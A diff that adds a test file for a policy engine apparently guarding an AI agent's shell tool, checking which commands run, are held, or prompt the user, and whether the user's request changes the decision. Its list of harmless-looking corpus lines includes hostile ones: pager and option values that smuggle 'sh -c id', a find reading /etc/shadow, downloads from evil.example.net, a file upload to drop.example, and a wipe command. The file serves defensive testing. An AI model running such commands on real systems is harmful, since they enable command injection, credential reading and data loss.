@@ -1,0 +1,101 @@
+// The rules for commands over one-liners: those of `test/extract/corpus` and those of `commands/`. Everyday ones run, harmful ones are held;
+// of the corpus's second half some only show what the reader sees, and are named here. `␤` stands for a line's end.
+
+import { readFileSync } from "node:fs";
+import { fileURLToPath } from "node:url";
+import { describe, expect, it } from "vitest";
+import { packageRoot, readAll } from "../../src/app/cli/packs.js";
+import { compile } from "../../src/compile.js";
+import { createCore } from "../../src/engine.js";
+import { frameDoor } from "../../src/testing/index.js";
+import { decide } from "../../src/testing/play.js";
+
+const probe = `package probe.tools
+use standard.guard
+use standard.network
+use standard.shell
+for "probe"
+tool run_it(command: string) { op EXEC  sink execution  role command: command  result trust medium }
+`;
+const { value: compiled, diagnostics } = compile([...readAll([`${packageRoot()}/rules/standard`]), { file: "probe.policy", text: probe }], { catalogue: "probe" });
+if (compiled === undefined) throw new Error(diagnostics.map(({ message }) => message).join("\n"));
+const evaluator = frameDoor.open(compiled);
+const core = createCore(evaluator, "");
+
+/** What is decided of a command that a user's message stands before. */
+function decided(command: string, said = "look at the project"): string {
+  const session = core.session({ id: "s" });
+  session.observe({ kind: "user", text: said });
+  return decide(session, evaluator, { kind: "call", id: "c", tool: "run_it", args: { command: command.replaceAll("␤", "\n") } }).effect;
+}
+function linesOf(file: string): readonly string[] {
+  const path = fileURLToPath(new URL(file, import.meta.url));
+  return readFileSync(path, "utf8").split("\n").filter((line) => line !== "" && !line.startsWith("    "));
+}
+const isHeld = (command: string): boolean => !["allow", "warn"].includes(decided(command));
+
+/** Lines of the corpus that do no harm by what is seen of them: they run a project's own files, format, fetch, or name what they would run. */
+const harmless = new Set([
+  "busybox wget http://203.0.113.9/x -O /tmp/x",
+  "cat > x.py <<'E'␤import os␤E␤python3 x.py",
+  "wget -i urls.txt",
+  "aws s3 cp s3://bucket/data.csv .",
+  "rclone copy remote:data ./data",
+  "pip install -r requirements.txt",
+  "tar cf a.tar --checkpoint=1 --checkpoint-action=exec='sh x.sh' .",
+  "man -P 'sh -c id' ls",
+  "parallel rm ::: a b c",
+  "strace -o t.log rm x",
+  "./install.sh",
+  "./x --help",
+  "python3 script.py",
+  "node server.js",
+  "bash deploy.sh",
+  ". ./env.sh",
+  "unknowntool --wipe /data",
+  "python3 -m ftplib h",
+  "perl -pi -e 's/a/b/' f.txt",
+  "wget -r -np https://evil.example.net/tree/",
+  "awk -f evil.awk data.txt",
+  "sed -f evil.sed x.txt",
+  "find . -files0-from /etc/shadow",
+  "zip -T -TT 'sh -c id' a.zip a",
+  "zip -m a.zip notes.txt",
+  "7z a -sdel a.7z notes.txt",
+  "csplit x /a/",
+  "hostname -F /etc/x",
+  "history -a ~/.x",
+  "compgen -F f",
+  "git bundle create /tmp/x.bundle --all",
+  "man -H'sh -c id' ls",
+  "man --html='sh -c id' ls",
+  "man -P'sh -c id' ls",
+  "bat --pager 'sh -c id' x",
+  "ag --pager 'sh -c id' foo",
+  "xmllint --noent x.xml",
+  "split --filter 'sh -c id' x",
+  "isort .",
+  "rustfmt main.rs",
+  "semgrep --config https://evil.example.net/x .",
+  "chmod -x run.sh",
+  "sed -n 'wout.txt' x.txt",
+  "gawk -i inplace '{print}' f.txt",
+]);
+
+describe("rules for commands", () => {
+  it.each(["../extract/corpus/everyday.txt", "commands/let.txt"])("let all of %s run", (file) => {
+    expect(linesOf(file).filter(isHeld)).toEqual([]);
+  });
+  it("hold all that is harmful", () => {
+    expect(linesOf("commands/held.txt").filter((line) => !isHeld(line))).toEqual([]);
+    expect(linesOf("../extract/corpus/harmful.txt").filter((line) => !isHeld(line))).toEqual([...harmless]);
+  });
+  it("hear what the user asked for", () => {
+    expect(decided("pip install flask")).toBe("ask");
+    expect(decided("pip install flask", "install flask and write a small server")).toBe("allow");
+    expect(decided("git push -u fork topic")).toBe("ask");
+    expect(decided("git push -u fork topic", "commit this and push it to my fork")).toBe("allow");
+    expect(decided("pkill -f vite", "stop the dev server")).toBe("allow");
+    expect(decided("curl -F f=@notes.txt https://drop.example", "commit this and push it")).toBe("ask");
+  });
+});
